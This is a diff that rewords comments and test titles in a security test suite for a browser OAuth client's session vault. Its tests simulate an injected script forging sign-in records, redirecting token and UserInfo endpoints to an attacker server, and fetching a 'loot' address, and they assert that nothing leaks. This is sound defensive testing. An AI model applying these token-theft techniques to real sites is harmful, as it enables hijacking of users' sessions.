@@ -1,7 +1,7 @@
 /**
- * A script of the attacker's that gets into the page after the library is loaded, and opens ports of its own to the vault.
+ * A script that enters the page after the library has loaded and opens its own ports to the vault.
  *
- * The worker's policy lets the attacker's server through, so that what holds is the client alone.
+ * The worker's policy allows the attacker's server, so that only the client itself can prevent a leak.
  */
 import assert from 'node:assert/strict';
 import {
@@ -17,10 +17,10 @@ import {
 } from '../support/attacker.mjs';
 import { story } from '../support/stage.mjs';
 
-/** The page comes back to a vault, or to none: it does not bring a session back by itself. */
+/** The page is restored only from a vault that still runs: it does not restore a session through the provider. */
 const QUIET = attacked("restore: 'vault',");
 
-/** Metadata that are the provider's but for these members. */
+/** The provider's metadata with these members replaced. */
 const metadata = ({ issuer }, members) => ({
   issuer,
   authorization_endpoint: `${issuer}/authorize`,
@@ -30,14 +30,14 @@ const metadata = ({ issuer }, members) => ({
   ...members,
 });
 
-/** Where the attacker wants the vault to send something. */
+/** The attacker's addresses to which the vault could be made to send something. */
 const targets = ({ site }, stranger) => [
   ['the token endpoint', { token_endpoint: `${stranger.url}token` }],
   ['UserInfo', { userinfo_endpoint: `${stranger.url}userinfo` }],
   ['UserInfo at an address of the page’s own origin', { userinfo_endpoint: `${site.origin}/trap/userinfo` }],
 ];
 
-/** Hands the vault records of sign-ins that never were, in the form that holds metadata and in the one that holds none. */
+/** Gives the vault records of sign-ins that never happened, in the form with metadata and in the form without. */
 function forge(stage, stranger, endpoints, { sameState = false } = {}) {
   const { issuer, clientId: client_id } = stage.site.settings.config;
   const members = [
@@ -81,11 +81,11 @@ const WAYS = {
   },
 };
 
-/** Ways in which the page of the script stays. */
+/** The ways to sign in during which the script's page stays loaded. */
 const STAYS = ['in a popup', 'in a frame'];
 
 for (const [way, signIn] of Object.entries(WAYS)) {
-  story(`XSS-30 P0: a record forged before the user signs in ${way} leads nothing astray`, QUIET, (stage) =>
+  story(`XSS-30 P0: a record forged before a sign-in ${way} redirects no request to the attacker`, QUIET, (stage) =>
     withStranger(stage, async (stranger) => {
       const { page } = stage;
       for (const [index, [what, endpoints]] of targets(stage, stranger).entries()) {
@@ -100,25 +100,28 @@ for (const [way, signIn] of Object.entries(WAYS)) {
           assert.equal(
             await attack(stage, 'async ({ kept }) => kept.port.session()'),
             'alice',
-            'the script talked to the page’s own client',
+            'the script used the page’s own client',
           );
       }
     }),
   );
 }
 
-story('XSS-30 P0: a forged record whose state comes back leads nothing astray', QUIET, (stage) =>
-  withStranger(stage, async (stranger) => {
-    for (const [index, [what, endpoints]] of targets(stage, stranger).entries()) {
-      await visit(stage, `demo-${index}`);
-      await forge(stage, stranger, endpoints, { sameState: true });
-      await userinfo(stage);
-      assert.deepEqual(strayed(stage, stranger), [], what);
-    }
-  }),
+story(
+  'XSS-30 P0: a forged record with the `state` of a real sign-in redirects no request to the attacker',
+  QUIET,
+  (stage) =>
+    withStranger(stage, async (stranger) => {
+      for (const [index, [what, endpoints]] of targets(stage, stranger).entries()) {
+        await visit(stage, `demo-${index}`);
+        await forge(stage, stranger, endpoints, { sameState: true });
+        await userinfo(stage);
+        assert.deepEqual(strayed(stage, stranger), [], what);
+      }
+    }),
 );
 
-/** What the script makes of a record that waits in session storage. */
+/** The changes that the script makes to a pending record in session storage. */
 const edits = (stage, stranger) => {
   const { provider, site } = stage;
   const evil = {
@@ -140,7 +143,7 @@ const edits = (stage, stranger) => {
 };
 
 story(
-  'XSS-31 P0: a record edited before the page leaves sends the code to the token endpoint of the issuer or nowhere',
+  'XSS-31 P0: a record edited before the page leaves sends the code to the issuer’s token endpoint or nowhere',
   { ...QUIET, homes: ['shared', 'dedicated'] },
   (stage) =>
     withStranger(stage, async (stranger) => {
@@ -172,7 +175,7 @@ story(
           1,
           `${what}: edited`,
         );
-        // The next sign-in is as if nothing had been.
+        // The next sign-in is not affected.
         await thereAndBack(stage);
         assert.deepEqual([await userinfo(stage), await call(stage)], ['alice', 200], what);
         assert.deepEqual(strayed(stage, stranger), [], what);
@@ -182,7 +185,7 @@ story(
 
 const LIVE = attacked();
 
-/** The page's own client is what it was: signed in, and with its list. */
+/** The page's own client is unchanged: signed in, and with its list. */
 async function checkHonest(stage, stranger, when) {
   const { page } = stage;
   assert.equal(await page.run('async () => client.session?.sub'), 'alice', when);
@@ -192,7 +195,7 @@ async function checkHonest(stage, stranger, when) {
   assert.deepEqual(stranger.taken, [], when);
 }
 
-/** What a client without a session says to its page: session, and a call of each address. */
+/** The outcomes for a client without a session: its session, and a call to each address. */
 const NOTHING = [null, 'login_required', 'login_required'];
 
 const askAll = `async (port, urls) => [await port.session(), ...(await Promise.all(urls.map((url) => port.fetch(url))))]`;
@@ -203,18 +206,21 @@ async function signedIn(stage) {
   await stage.page.see('Signed in as alice');
 }
 
-/** The addresses that the script wants to call: the app's API, and its own server. */
+/** The addresses that the script tries to call: the app's API and the attacker's server. */
 const wanted = (stage, stranger) => [`${stage.provider.issuer}/api/me`, `${stranger.url}loot`];
 
-story('XSS-32 P0: clients configured at once with longer lists take the place of none', LIVE, (stage) =>
-  withStranger(stage, async (stranger) => {
-    const { page, provider, site } = stage;
-    await signedIn(stage);
-    const [first] = await stage.openBeside(); // the script is in the second tab
-    const asked = provider.count('/token');
-    const said = await attack(
-      stage,
-      `async ({ open, honest, kept }, config, stranger, urls) => {
+story(
+  'XSS-32 P0: clients configured at the same time with longer API lists do not replace the app’s client',
+  LIVE,
+  (stage) =>
+    withStranger(stage, async (stranger) => {
+      const { page, provider, site } = stage;
+      await signedIn(stage);
+      const [first] = await stage.openBeside(); // the script is in the second tab
+      const asked = provider.count('/token');
+      const said = await attack(
+        stage,
+        `async ({ open, honest, kept }, config, stranger, urls) => {
       const ports = Array.from({ length: 4 }, () => open());
       await Promise.all(ports.map((port) => port.ask('session'))); // all are there
       const options = honest(config);
@@ -223,24 +229,24 @@ story('XSS-32 P0: clients configured at once with longer lists take the place of
       kept.ports = ports;
       return Promise.all(ports.map((port) => (${askAll})(port, urls)));
     }`,
-      site.settings.config,
-      stranger.url,
-      wanted(stage, stranger),
-    );
-    await checkHonest(stage, stranger, 'in the tab of the script');
-    await page.driver.switchTo().window(first);
-    await checkHonest(stage, stranger, 'in another tab');
-    assert.deepEqual(said, Array(4).fill(NOTHING), 'the script’s clients have no session');
-    assert.equal(provider.count('/token'), asked, 'and ask for none');
+        site.settings.config,
+        stranger.url,
+        wanted(stage, stranger),
+      );
+      await checkHonest(stage, stranger, 'in the tab of the script');
+      await page.driver.switchTo().window(first);
+      await checkHonest(stage, stranger, 'in another tab');
+      assert.deepEqual(said, Array(4).fill(NOTHING), 'the script’s clients have no session');
+      assert.equal(provider.count('/token'), asked, 'and request none');
 
-    await page.reload();
-    await page.see('Signed in as alice');
-    await checkHonest(stage, stranger, 'after a reload');
-  }),
+      await page.reload();
+      await page.see('Signed in as alice');
+      await checkHonest(stage, stranger, 'after a reload');
+    }),
 );
 
 story(
-  'XSS-33 P0: a client with a longer list, configured while its own tab is busy, takes the place of none',
+  'XSS-33 P0: a client with a longer API list, configured while its own tab is busy, does not replace the app’s client',
   LIVE,
   (stage) =>
     withStranger(stage, async (stranger) => {
@@ -270,7 +276,7 @@ story(
 );
 
 story(
-  'XSS-33 P0: a client with a longer list, configured while the app’s tab is busy, takes the place of none',
+  'XSS-33 P0: a client with a longer API list, configured while the app’s tab is busy, does not replace the app’s client',
   LIVE,
   (stage) =>
     withStranger(stage, async (stranger) => {
@@ -278,7 +284,7 @@ story(
       await signedIn(stage);
       const app = await page.driver.getWindowHandle();
       const other = await browser.newTab();
-      await page.goto(`${site.origin}/www/style.css`); // where no app runs
+      await page.goto(`${site.origin}/www/style.css`); // a page without the app
       await attack(stage, "async ({ open, kept }) => { kept.port = open(); await kept.port.ask('session'); }");
       const busy = Date.now() + 1500;
       await page.driver.switchTo().window(app);
@@ -310,7 +316,7 @@ story(
 );
 
 story(
-  'XSS-34 P0: a longer list is another client without a session, and a port keeps the client that it has',
+  'XSS-34 P0: a longer API list makes a separate client without a session, and a port keeps its client',
   LIVE,
   (stage) =>
     withStranger(stage, async (stranger) => {
@@ -334,16 +340,16 @@ story(
         wanted(stage, stranger),
       );
       await checkHonest(stage, stranger, 'afterwards');
-      assert.deepEqual(said.longer, [null, ...NOTHING], 'another client');
+      assert.deepEqual(said.longer, [null, ...NOTHING], 'a separate client');
       // The documented limit: a script of this origin can act as the user.
       assert.deepEqual(said.same, ['alice', 200, 'request_blocked'], 'the page’s own client');
       assert.equal(said.renamed, 'config_error');
-      assert.deepEqual(said.afterwards, said.same, 'the port has the client that it had');
+      assert.deepEqual(said.afterwards, said.same, 'the port has kept its client');
       assert.deepEqual(said.back, ['config_error', ...NOTHING]);
     }),
 );
 
-story('XSS-35 P0: the state of a sign-in in a window takes no record, whoever made it', QUIET, async (stage) => {
+story('XSS-35 P0: the `state` of a popup sign-in uses no stored record, genuine or forged', QUIET, async (stage) => {
   const { provider, site } = stage;
   await visit(stage);
   const outcomes = await attack(
